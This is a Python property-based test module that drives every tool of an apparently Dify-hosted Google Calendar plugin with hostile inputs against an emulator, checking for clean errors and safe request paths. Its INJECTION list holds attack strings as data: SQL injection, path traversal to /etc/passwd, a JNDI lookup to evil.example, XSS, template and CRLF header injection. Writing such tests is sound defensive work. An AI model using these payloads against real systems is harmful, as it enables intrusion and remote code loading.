"""Property-based hostile inputs for every declared tool.

Every parameter of every tool in provider/google_calendar.yaml is driven with hostile values
(huge, unicode, control characters, injection-looking text, and the wrong types Dify may pass:
floats for numbers, strings for booleans, JSON arrays as strings). A call either succeeds or
raises one of our own errors with a clear message; it never sends a request Google would
reject with 400, never an unencoded path segment, and never crashes the emulator.

Most examples call the tool classes in-process against the emulator (handed the requests
without sockets); a smaller number go through the real plugin process and the Dify protocol.
Every declared parameter of every tool meets every value in GRID (deterministic coverage),
hypothesis mixes hostile values into plausible calls, and the parsers behind the parameters
meet hostile values directly (cheap, so they carry most of the count).
"""

from __future__ import annotations

import importlib
import inspect
import os
import re
import string
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gcal.dates.recurrence import parse_recurrence
from gcal.dates.times import parse_time, resolve_zone
from gcal.errors import GoogleCalendarError, InvalidRequestError
from gcal.events.input import parse_event_fields
from gcal.google import _endpoints, transport
from gcal.google.client import client_from_credentials
from gcal.google.pagination import decode_token
from gcal.google.transport import calendar_path
from gcal.params import parse_emails, split_list, to_bool, to_int, to_str
from gcal.scheduling.slots import parse_working_days, parse_working_hours
from tests.conftest import ALICE, TEST_CLIENT_ID, TEST_CLIENT_SECRET
from tests.emulator import discovery
from tests.emulator.inprocess import InProcessSession
from tests.plugin_process import PluginInvokeError
from tests.reliability import clear_error_problem, record

ROOT = Path(__file__).resolve().parents[2]
# HOSTILE_EXAMPLES=600 HOSTILE_RANDOM=1 turns this into a longer, randomised bug hunt.
EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "150"))
RANDOM = os.environ.get("HOSTILE_RANDOM") == "1"


def _settings(examples: int) -> settings:
    return settings(max_examples=examples, deadline=None, derandomize=not RANDOM,
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow])


PATH_CHARS = set(string.ascii_letters + string.digits + "-._~%/")


def _declared_tools() -> dict[str, dict[str, dict]]:
    """name -> {parameter: its declaration} for every tool the provider declares."""
    provider = yaml.safe_load((ROOT / "provider" / "google_calendar.yaml").read_text())
    tools = {}
    for path in provider.get("tools", []):
        spec = yaml.safe_load((ROOT / path).read_text())
        tools[spec["identity"]["name"]] = {p["name"]: p for p in spec.get("parameters", [])}
    return tools


TOOLS = _declared_tools()


def _tool_instance(name: str) -> Any:
    from tools import _base

    module = importlib.import_module(f"tools.{name}")
    [cls] = [c for _, c in inspect.getmembers(module, inspect.isclass)
             if issubclass(c, _base.CalendarTool) and c is not _base.CalendarTool]
    return cls.__new__(cls)  # answer() needs no Dify runtime


# --- hostile values -------------------------------------------------------------------

INJECTION = [
    "' OR 1=1 --", "../../etc/passwd", "https://evil.example/x", "a?b#c", "%2F", "%00", "..",
    "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "{{7*7}}", "\r\nX-Evil: 1",
    "primary\nHost: evil.example", "null", "undefined", "NaN", "Infinity", "-1", "1e309",
    "[]", "{}", '["primary", "x@y.z"]', "[1, 2", "true", "FALSE", "yes", "0", "1.5", " ",
    "all", "primary", "alice@example.com", "mailto:a@b.c", "Bob <bob@example.com>",
    "now", "today", "tomorrow", "2026-06-01", "2026-06-01T10:00", "2026-02-30T25:61",
    "2026-06-01T10:00:00+14:00", "0000-01-01", "9999-12-31T23:59:59Z", "Europe/Berlin",
    "Mars/Olympus", "09:00-17:00", "Mon-Fri", "accepted", "instance", "series", "RRULE:FREQ=",
    "\u202egnp.exe", "\ufeff", "🎉" * 3, "名前", "\x00\x01\x1f", "\t\n",
]
huge = st.builds(lambda piece, n: piece * n, st.sampled_from(["a", "é", "🎉", "x@y.z,", "%"]),
                 st.integers(1_000, 40_000))
controls = st.text(st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp", "Co"]), max_size=20)
hostile = st.one_of(
    st.sampled_from(INJECTION),
    st.text(max_size=40),
    controls,
    huge,
    st.integers(min_value=-(2**63), max_value=2**63),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.sampled_from(["True", "false", "10.0", "30.0", 10.0, 30.0, 0.5, -0.0]),
    st.none(),
    st.lists(st.sampled_from(INJECTION), max_size=4),
)


EVENT_ID = "standup20260601"
NEXT_WEEK = (date.today() + timedelta(days=8)).isoformat()
WINDOWS = [("2026-06-01", "2026-06-05"), ("tomorrow", NEXT_WEEK),
           ("2026-06-01T08:00", "2026-06-01 18:00"), (None, None)]
PLAUSIBLE: dict[str, list[Any]] = {
    "time_zone": ["Europe/Berlin", "UTC", "asia/tokyo", None],
    "calendar": ["primary", ALICE, "Team", "all", f"{ALICE}, Team", None],
    "event_id": [EVENT_ID, EVENT_ID, "doesnotexist1"],
    "emails": ["bob@example.com", "Bob <bob@example.com>, carol@example.org", None],
    "text": ["Standup", "Lunch with Bob tomorrow at noon", "Planning: Q3", None],
    "page_token": [None],
    "working_hours": ["09:00-17:00", "8-12", None],
    "working_days": ["Mon-Fri", "mon,wed", None],
    "duration_minutes": [30, "45", 60.0],
    "granularity_minutes": [15, "30", 5.0, None],
    "buffer_minutes": [0, "10", None],
    "max_results": [1, "10", 25.0, None],
    "boolean": [True, False, "true", "false", None],
    "number": [5, "10", 15.0, None],
}


def _kind(name: str, spec: dict) -> str:
    if name in PLAUSIBLE:
        return name
    if "calendar" in name:
        return "calendar"
    if "attendee" in name or name == "emails":
        return "emails"
    if spec.get("type") in ("boolean", "number"):
        return spec["type"]
    return "text"


def _plausible(name: str, spec: dict) -> st.SearchStrategy[Any]:
    if spec.get("type") == "select":
        return st.sampled_from([o["value"] for o in spec.get("options", [])] + [None])
    return st.sampled_from(PLAUSIBLE[_kind(name, spec)])


@st.composite
def _params(draw: Any, tool: str) -> dict:
    """A coherent, plausible call, then one to three of its parameters made hostile."""
    specs = TOOLS[tool]
    params = {name: draw(_plausible(name, spec)) for name, spec in specs.items()}
    start, end = draw(st.sampled_from(WINDOWS))
    for name, value in (("time_min", start), ("time_max", end), ("start", start),
                        ("end", end)):
        if name in specs:
            params[name] = value
    if specs:
        names = sorted(specs)
        for name in draw(st.lists(st.sampled_from(names), max_size=3, unique=True)):
            params[name] = draw(hostile)
    return {k: v for k, v in params.items() if v is not None}


# --- the in-process world -------------------------------------------------------------


@pytest.fixture(scope="module")
def world(emulator: Any) -> Iterator[dict[str, Any]]:
    emulator.reset()
    emulator.add_user(ALICE, time_zone="Europe/Berlin")
    emulator.register_client(TEST_CLIENT_ID, TEST_CLIENT_SECRET)
    team = emulator.add_calendar(ALICE, "Team", time_zone="Europe/Berlin")
    for cal in (ALICE, team):
        emulator.add_event(cal, {"id": EVENT_ID, "summary": "Standup",
                                 "start": {"date": "2026-06-01"}, "end": {"date": "2026-06-02"}})
    creds = {"access_token": emulator.issue_token(ALICE),
             "refresh_token": emulator.issue_refresh_token(ALICE, TEST_CLIENT_ID)}
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(_endpoints.EMULATOR_HOST_ENV, emulator.host)
        # Thousands of calls: hand them to the emulator without sockets (same validation).
        session = InProcessSession(emulator)
        patch.setattr(transport, "shared_session", lambda: session)
        yield {"emu": emulator, "creds": creds,
               "client": client_from_credentials(creds, "oauth2")}


def _check_requests(emu: Any, since: int) -> None:
    assert not emu.internal_errors, emu.internal_errors[-1]
    for request in emu.requests[since:]:
        assert request.status != 400, (request.method, request.raw_path, request.query,
                                       request.body)
        assert set(request.raw_path) <= PATH_CHARS, request.raw_path
        if request.raw_path.startswith("/calendar/v3/"):
            assert discovery.route(request.method, request.raw_path), request.raw_path
            assert all(s not in (".", "..") for s in request.raw_path.split("/"))


def _run_in_process(world: dict[str, Any], tool: str, params: dict) -> None:
    emu = world["emu"]
    since = len(emu.requests)
    try:
        reply = _tool_instance(tool).answer(world["client"], params)
    except InvalidRequestError as error:  # Google's 400: we should have caught it
        pytest.fail(f"{tool} sent a request Google rejected: {error.message} ({params!r})")
    except GoogleCalendarError as error:
        assert clear_error_problem(type(error).__name__, error.message) is None
    else:
        assert isinstance(reply.text, str) and reply.text.strip()
        assert "Traceback" not in reply.text
    _check_requests(emu, since)
    record("hostile_input")


@pytest.mark.parametrize("tool", sorted(TOOLS))
def test_every_tool_survives_hostile_parameters(tool, world):
    @_settings(EXAMPLES)
    @given(params=_params(tool))
    def check(params: dict) -> None:
        _run_in_process(world, tool, params)

    check()


# Every declared parameter of every tool meets every one of these, the others plausible.
GRID = [*INJECTION, "a" * 40_000, "🎉" * 5_000, "x@y.z," * 2_000, -1, 0, 10**12, -(2**63),
        1.5, float("nan"), float("inf"), True, False, ["primary", "x@y.z"], []]


def _baseline(tool: str) -> dict:
    specs = TOOLS[tool]
    params = {name: _first_plausible(name, spec) for name, spec in specs.items()}
    start, end = WINDOWS[0]
    params.update({name: value for name, value in (("time_min", start), ("time_max", end),
                                                   ("start", start), ("end", end))
                   if name in specs})
    return params


def _first_plausible(name: str, spec: dict) -> Any:
    if spec.get("type") == "select":
        return None
    return PLAUSIBLE[_kind(name, spec)][0]


@pytest.mark.parametrize("tool", sorted(TOOLS))
def test_every_parameter_meets_every_hostile_value(tool, world):
    record("tool_parameters", len(TOOLS[tool]))
    baseline = _baseline(tool)
    for name in TOOLS[tool]:
        for value in GRID:
            params = {k: v for k, v in {**baseline, name: value}.items() if v is not None}
            _run_in_process(world, tool, params)
        record("tool_parameters_covered")  # this parameter met every value in GRID


# --- the parsers keep their promises --------------------------------------------------

BERLIN = resolve_zone("Europe/Berlin")
EVENT_FIELDS = sorted(set(TOOLS["create_event"]) | set(TOOLS["update_event"]))
PARSERS = {
    "time": lambda v: parse_time(v, zone=BERLIN, parameter="time_min"),
    "time_zone": lambda v: resolve_zone(to_str(v, "time_zone")),
    "working_hours": lambda v: parse_working_hours(to_str(v, "working_hours")),
    "working_days": lambda v: parse_working_days(to_str(v, "working_days")),
    "emails": lambda v: parse_emails(v, "attendees"),
    "recurrence": parse_recurrence,
    "page_token": lambda v: decode_token(to_str(v, "page_token") or ""),
}


def _parses_or_refuses_clearly(parse: Any, value: Any) -> None:
    try:
        parse(value)
    except GoogleCalendarError as error:
        assert clear_error_problem(type(error).__name__, error.message) is None


@_settings(EXAMPLES * 4)
@given(value=hostile)
def test_parsers_are_total(value):
    """Each parser meets each hostile value: a result, or one clear error."""
    for parse in PARSERS.values():
        _parses_or_refuses_clearly(parse, value)
    record("hostile_input", len(PARSERS))


@_settings(EXAMPLES * 2)
@given(name=st.sampled_from(EVENT_FIELDS), value=hostile, update=st.booleans())
def test_event_fields_are_total(name, value, update):
    params = {"summary": "Standup", "start": "2026-06-01T10:00", "duration_minutes": 30,
              name: value}
    _parses_or_refuses_clearly(lambda p: parse_event_fields(p, update=update), params)
    record("hostile_input")


@_settings(EXAMPLES)
@given(st.text())
def test_calendar_path_segment_round_trips(value):
    try:
        path = calendar_path("calendars", value, "events")
    except GoogleCalendarError as error:
        assert value.strip() in ("", ".", "..") and "Invalid" in error.message
        return
    segments = path.split("/")
    assert len(segments) == 4 and set(segments[2]) <= PATH_CHARS - {"/"}
    assert unquote(segments[2]) == value
    record("hostile_input")


@_settings(EXAMPLES)
@given(hostile)
def test_coercions_are_total(value):
    for convert in (lambda v: to_int(v, "n", minimum=1, maximum=2500),
                    lambda v: to_bool(v, "b"), lambda v: to_str(v, "s", max_length=500)):
        try:
            result = convert(value)
        except GoogleCalendarError as error:
            assert clear_error_problem(type(error).__name__, error.message) is None
        else:
            if isinstance(result, str):
                assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result)
    items = split_list(value)
    assert all(isinstance(i, str) and i == i.strip() and i for i in items)
    record("hostile_input")


@pytest.mark.parametrize(("value", "expected"), [
    (10.0, 10), ("10", 10), ("10.0", 10), (" 25 ", 25), (True, None), (10.5, None),
    (float("nan"), None), ("1e3", None), ([10], None),
])
def test_numbers_as_dify_passes_them(value, expected):
    if expected is None:
        with pytest.raises(GoogleCalendarError):
            to_int(value, "max_results")
    else:
        assert to_int(value, "max_results") == expected


@pytest.mark.parametrize(("value", "expected"), [
    ("true", True), ("False", False), ("1", True), (0, False), (1.0, True), ("yes", True),
    (None, None), ("", None),
])
def test_booleans_as_dify_passes_them(value, expected):
    assert to_bool(value, "show_hidden") is expected


def test_arrays_as_strings():
    assert split_list('["a@x.com", "b@y.org"]') == ["a@x.com", "b@y.org"]
    assert split_list("a@x.com, b@y.org;c@z.net") == ["a@x.com", "b@y.org", "c@z.net"]
    assert split_list(["a", "a", " b "]) == ["a", "b"]


# --- a smaller number through the real plugin process ---------------------------------


@_settings(max(EXAMPLES // 3, 20))
@given(data=st.data())
def test_hostile_parameters_through_the_plugin_process(data, plugin, world):
    tool = data.draw(st.sampled_from(sorted(TOOLS)), label="tool")
    params = data.draw(_params(tool), label="params")
    # Dify sends JSON: NaN/Infinity are not valid JSON numbers, so it never passes them.
    params = {k: v for k, v in params.items()
              if not (isinstance(v, float) and (v != v or v in (float("inf"), float("-inf"))))}
    emu = world["emu"]
    since = len(emu.requests)
    try:
        result = plugin.invoke_tool(tool, params, world["creds"])
    except PluginInvokeError as error:
        assert clear_error_problem(error.error_type, error.message) is None
        assert error.error_type != "InvalidRequestError", error.message
    else:
        assert result.text.strip() and "Traceback" not in result.text
    _check_requests(emu, since)
    record("hostile_input")
